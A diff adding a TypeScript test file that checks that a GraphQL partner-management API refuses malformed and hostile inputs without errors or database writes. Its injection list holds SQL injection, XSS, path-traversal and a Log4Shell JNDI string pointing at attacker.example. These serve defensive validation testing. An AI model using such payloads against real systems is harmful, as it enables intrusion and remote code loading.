@@ -1,0 +1,279 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import {
+  buildSchema,
+  getNamedType,
+  type GraphQLInputObjectType,
+  type GraphQLInputType,
+  type GraphQLSchema,
+  isEnumType,
+  isInputObjectType,
+  isListType,
+  isNonNullType,
+  isScalarType,
+} from 'graphql';
+import { OffersDocument, RequestPartnershipDocument } from './generated/graphql';
+import { createCustomer, createPartner, customerInput, uniqueMpnId } from './support/factories';
+import { invite, standaloneCustomer } from './support/invitations';
+import { partner } from './support/partnerships';
+import { startTestServer, type TestServer } from './support/test-server';
+
+/**
+ * The bad-input corpus: for every mutation of the schema, a valid input (proved valid at the end,
+ * when each one is sent once and must succeed), and from it, generated from the input's types,
+ * one case per bad value of each field: wrong types, a missing or null required field, an unknown
+ * field, out-of-range numbers, huge strings and lists, invisible, control, bidi and broken
+ * Unicode text, implausible dates and injection strings in formatted fields. Each case must be
+ * refused with BAD_USER_INPUT naming the field, never a 5xx, and must write no row.
+ */
+const schema: GraphQLSchema = buildSchema(readFileSync(join(__dirname, '..', 'schema', 'schema.graphql'), 'utf8'));
+
+type Json = Record<string, unknown>;
+interface MutationSpec {
+  token: () => string;
+  input: () => Json;
+}
+
+let t: TestServer;
+let specs: Record<string, MutationSpec>;
+/** what the final control run sends, in an order where each valid input still applies */
+const CONTROL_ORDER = [
+  'createPartner',
+  'createCustomer',
+  'createCustomerInvitation',
+  'createSubscription',
+  'updateSubscription',
+  'acceptCustomerInvitation',
+  'revokeDelegatedAdminPrivileges',
+  'declineCustomerInvitation',
+  'revokeCustomerInvitation',
+  'removeCustomerRelationship',
+  'requestPartnership',
+  'acceptPartnershipRequest',
+  'revokePartnershipRequest',
+  'removePartnership',
+];
+
+beforeAll(async () => {
+  t = await startTestServer();
+  const operator = await t.tokens.operator();
+  const direct = await createPartner(t, 'DIRECT_RESELLER');
+  const provider = await createPartner(t, 'INDIRECT_PROVIDER');
+  const reseller = await createPartner(t, 'INDIRECT_RESELLER');
+  const secondReseller = await createPartner(t, 'INDIRECT_RESELLER');
+  const partnershipId = await partner(t, provider, reseller);
+  const customer = await createCustomer(t, direct.token);
+  const { offers } = await t.client(operator).data(OffersDocument);
+  const offerId = offers.find((o) => o.maxQuantity >= 2 && o.minQuantity <= 1)!.id;
+  const toAccept = await invite(t, direct.token, true);
+  const toDecline = await invite(t, direct.token, true);
+  const toRevoke = await invite(t, direct.token, true);
+  const accepting = await standaloneCustomer(t);
+  const declining = await standaloneCustomer(t);
+  const requests = t.client(provider.token);
+  const toAcceptRequest = (await requests.data(RequestPartnershipDocument, { input: { resellerEmail: 'a@reseller.example' } })).requestPartnership;
+  const toRevokeRequest = (await requests.data(RequestPartnershipDocument, { input: { resellerEmail: 'b@reseller.example' } })).requestPartnership;
+  const subscription = await t.client(direct.token).raw<{ createSubscription: { subscription: { id: string } } }>({
+    query: 'mutation ($input: CreateSubscriptionInput!) { createSubscription(input: $input) { subscription { id } } }',
+    variables: { input: { customerId: customer.id, offerId, quantity: 1 } },
+  });
+  const subscriptionId = subscription.data!.createSubscription.subscription.id;
+
+  specs = {
+    createPartner: {
+      token: () => operator,
+      input: () => ({ name: 'Corpus Partner Ltd', mpnId: uniqueMpnId(), type: 'DIRECT_RESELLER', cloud: 'PUBLIC', contactEmail: 'corpus@partner.example' }),
+    },
+    createCustomer: {
+      token: () => direct.token,
+      input: () => ({ ...customerInput(), cloud: 'PUBLIC', subscriptions: [{ offerId, quantity: 1 }] }),
+    },
+    createCustomerInvitation: {
+      token: () => direct.token,
+      input: () => ({ includeDelegatedAdminPrivileges: true, customerEmail: 'it@customer.example' }),
+    },
+    acceptCustomerInvitation: { token: () => accepting.token, input: () => ({ token: toAccept.token }) },
+    declineCustomerInvitation: { token: () => declining.token, input: () => ({ token: toDecline.token }) },
+    revokeCustomerInvitation: { token: () => direct.token, input: () => ({ invitationId: toRevoke.invitation.id }) },
+    removeCustomerRelationship: { token: () => direct.token, input: () => ({ customerId: customer.id, attestation: true }) },
+    // the accepting customer gets DAP from the direct reseller when it accepts (the control run accepts first)
+    revokeDelegatedAdminPrivileges: { token: () => accepting.token, input: () => ({ partnerId: direct.id }) },
+    requestPartnership: { token: () => provider.token, input: () => ({ resellerEmail: 'c@reseller.example' }) },
+    acceptPartnershipRequest: { token: () => secondReseller.token, input: () => ({ token: toAcceptRequest.token }) },
+    revokePartnershipRequest: { token: () => provider.token, input: () => ({ requestId: toRevokeRequest.request.id }) },
+    removePartnership: { token: () => provider.token, input: () => ({ partnershipId, confirm: true, attestation: true }) },
+    createSubscription: { token: () => direct.token, input: () => ({ customerId: customer.id, offerId, quantity: 1 }) },
+    updateSubscription: { token: () => direct.token, input: () => ({ subscriptionId, quantity: 2 }) },
+  };
+});
+afterAll(async () => {
+  await t?.stop();
+});
+
+// ---- the generator ----------------------------------------------------------------------------
+
+/** Fields where any well-formed text is valid (so an injection string there is just text). */
+const FREE_TEXT = new Set(['name', 'companyName', 'addressLine1', 'addressLine2', 'city', 'state', 'firstName', 'lastName', 'signatoryName', 'token', 'offerId']);
+const TEXT_CASES: [string, string][] = [
+  ['a NUL character only', '\u0000'],
+  ['zero-width spaces only', '\u200B\u200B\u200B'],
+  ['whitespace only', ' \u00A0\u3000 '],
+  ['a CRLF inside', 'First line\r\nSecond line'],
+  ['a bidi override', 'Contoso \u202Egnp.exe'],
+  ['a lone surrogate', 'Broken \uD800 text'],
+  ['a C1 control character', 'Name\u0085Name'],
+  ['a 100,000-character string', 'x'.repeat(100_000)],
+];
+const INJECTIONS = ["' OR '1'='1", '1; DROP TABLE partner; --', '<script>alert(1)</script>', '${jndi:ldap://attacker.example/a}', '../../etc/passwd'];
+
+interface Case {
+  mutation: string;
+  field: string;
+  what: string;
+  /** changes a fresh valid input into the bad one */
+  apply: (input: Json) => void;
+}
+
+function setAt(target: Json, path: (string | number)[], value: unknown, remove = false) {
+  let node = target as Record<string | number, unknown>;
+  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
+  const last = path[path.length - 1];
+  if (remove) delete node[last];
+  else node[last] = value;
+}
+
+function pathName(path: (string | number)[]): string {
+  return path.reduce<string>((out, key) => (typeof key === 'number' ? `${out}[${key}]` : `${out}.${key}`), 'input');
+}
+
+/** The bad values for one field of an input, by its type. */
+function badValues(type: GraphQLInputType, fieldName: string): [string, unknown][] {
+  const named = getNamedType(type);
+  const out: [string, unknown][] = [];
+  if (isListType(isNonNullType(type) ? type.ofType : type)) {
+    out.push(['a list of 1,000 elements', 'LIST_OF_1000'], ['a number instead of a list', 7]);
+    return out;
+  }
+  if (isInputObjectType(named)) return [['a string instead of an object', 'not an object'], ['a number instead of an object', 12]];
+  if (isEnumType(named)) return [['an unknown enum value', 'NOT_A_VALUE'], ['a lowercase enum value', named.getValues()[0].value.toLowerCase()], ['a number', 3]];
+  if (isScalarType(named)) {
+    switch (named.name) {
+      case 'Int':
+        return [['a string', 'many'], ['a fraction', 1.5], ['2^31 (out of range)', 2 ** 31], ['zero', 0], ['a negative number', -5]];
+      case 'Boolean':
+        return [['the string "true"', 'true'], ['the number 1', 1]];
+      case 'DateTimeISO':
+        return [['not a date', 'yesterday'], ['the year 0001', '0001-01-01T00:00:00.000Z'], ['a date in the future', '2999-01-01T00:00:00.000Z'], ['a number', 12345]];
+      case 'ID':
+      case 'String': {
+        out.push(['an object', { $ne: null }], ['a boolean', true]);
+        if (named.name === 'String') out.push(['a number', 42]);
+        out.push(...TEXT_CASES.map(([what, value]): [string, unknown] => [what, value]));
+        if (!FREE_TEXT.has(fieldName)) out.push(...INJECTIONS.map((s): [string, unknown] => [`the injection string ${s}`, s]));
+        return out;
+      }
+    }
+  }
+  throw new Error(`no bad values for type ${String(type)}`);
+}
+
+/** Every case of one mutation: each field's bad values, each required field missing or null, an unknown field. */
+function casesFor(mutation: string, inputType: GraphQLInputObjectType, valid: Json, prefix: (string | number)[] = []): Case[] {
+  const cases: Case[] = [];
+  for (const field of Object.values(inputType.getFields())) {
+    const path = [...prefix, field.name];
+    const field_ = pathName(path);
+    const named = getNamedType(field.type);
+    const present = (valid as Json)[field.name] !== undefined;
+    if (isNonNullType(field.type)) {
+      cases.push({ mutation, field: field_, what: 'missing', apply: (input) => setAt(input, path, undefined, true) });
+      cases.push({ mutation, field: field_, what: 'null', apply: (input) => setAt(input, path, null) });
+    }
+    for (const [what, value] of badValues(field.type, field.name)) {
+      cases.push({
+        mutation,
+        field: field_,
+        what,
+        apply: (input) => {
+          const current = path.reduce<unknown>((node, key) => (node as Json)?.[key as string], input);
+          setAt(input, path, value === 'LIST_OF_1000' ? Array.from({ length: 1000 }, () => (Array.isArray(current) ? current[0] : current)) : value);
+        },
+      });
+    }
+    // nested inputs (and the first element of a list of inputs) get their own field cases
+    if (isInputObjectType(named) && present) {
+      const nested = (valid as Json)[field.name];
+      if (Array.isArray(nested)) cases.push(...casesFor(mutation, named, nested[0] as Json, [...path, 0]));
+      else cases.push(...casesFor(mutation, named, nested as Json, path));
+    }
+  }
+  if (!prefix.length) cases.push({ mutation, field: 'input.bogus', what: 'an unknown field', apply: (input) => ((input as Json).bogus = 1) });
+  return cases;
+}
+
+function inputTypeOf(mutation: string): GraphQLInputObjectType {
+  const arg = schema.getMutationType()!.getFields()[mutation].args.find((a) => a.name === 'input')!;
+  return getNamedType(arg.type) as GraphQLInputObjectType;
+}
+
+async function rowCounts(): Promise<string> {
+  const counts = await Promise.all(
+    t.server.ds.entityMetadatas.map(async (m) => `${m.tableName}=${(await t.server.ds.query(`SELECT COUNT(*) AS n FROM ${m.tableName}`))[0].n}`),
+  );
+  return counts.join(' ');
+}
+
+const send = (mutation: string, token: string, input: unknown) =>
+  t.client(token).raw({ query: `mutation ($input: ${inputTypeOf(mutation).name}!) { ${mutation}(input: $input) { __typename } }`, variables: { input } });
+
+// ---- the tests ---------------------------------------------------------------------------------
+
+it('has a valid input for every mutation of the schema', () => {
+  const mutations = Object.keys(schema.getMutationType()!.getFields()).sort();
+  expect(Object.keys(specs).sort()).toEqual(mutations);
+  expect([...CONTROL_ORDER].sort()).toEqual(mutations);
+});
+
+it('refuses every generated bad input with BAD_USER_INPUT naming the field, no 5xx, and no row written', async () => {
+  const cases = Object.keys(specs).flatMap((mutation) => casesFor(mutation, inputTypeOf(mutation), specs[mutation].input()));
+  expect(cases.length).toBeGreaterThanOrEqual(200);
+  const failures: unknown[] = [];
+  let before = await rowCounts();
+  for (const c of cases) {
+    const input = specs[c.mutation].input();
+    c.apply(input);
+    const res = await send(c.mutation, specs[c.mutation].token(), input);
+    const error = res.errors?.[0];
+    const after = await rowCounts();
+    const ok =
+      res.status < 500 &&
+      !res.data?.[c.mutation as never] &&
+      error?.extensions?.code === 'BAD_USER_INPUT' &&
+      Array.isArray(error.extensions.fields) &&
+      error.extensions.fields.includes(c.field) &&
+      error.message.length < 2000 &&
+      after === before;
+    if (!ok) failures.push({ case: `${c.mutation} ${c.field}: ${c.what}`, status: res.status, error: error && { ...error, message: error.message.slice(0, 300) }, wrote: after !== before });
+    before = after;
+  }
+  console.log(`bad-input corpus: ${cases.length} cases over ${Object.keys(specs).length} mutations`);
+  expect(failures).toEqual([]);
+});
+
+it('accepts each valid input once (so each refusal above came from the bad field alone)', async () => {
+  for (const mutation of CONTROL_ORDER) {
+    const res = await send(mutation, specs[mutation].token(), specs[mutation].input());
+    expect({ mutation, errors: res.errors }).toEqual({ mutation, errors: undefined });
+  }
+});
+
+it('stores injection strings in free-text fields as plain text, normalised (NFC, trimmed)', async () => {
+  const operator = t.client(await t.tokens.operator());
+  const name = "  Robert'); DROP TABLE partner; -- Cafe\u0301 Ltd  ";
+  const res = await operator.raw<{ createPartner: { partner: { id: string; name: string } } }>({
+    query: 'mutation ($input: CreatePartnerInput!) { createPartner(input: $input) { partner { id name } } }',
+    variables: { input: { name, mpnId: uniqueMpnId(), type: 'DIRECT_RESELLER', cloud: 'PUBLIC', contactEmail: 'bobby@tables.example' } },
+  });
+  expect(res.errors).toBeUndefined();
+  expect(res.data!.createPartner.partner.name).toBe("Robert'); DROP TABLE partner; -- Caf\u00E9 Ltd");
+});
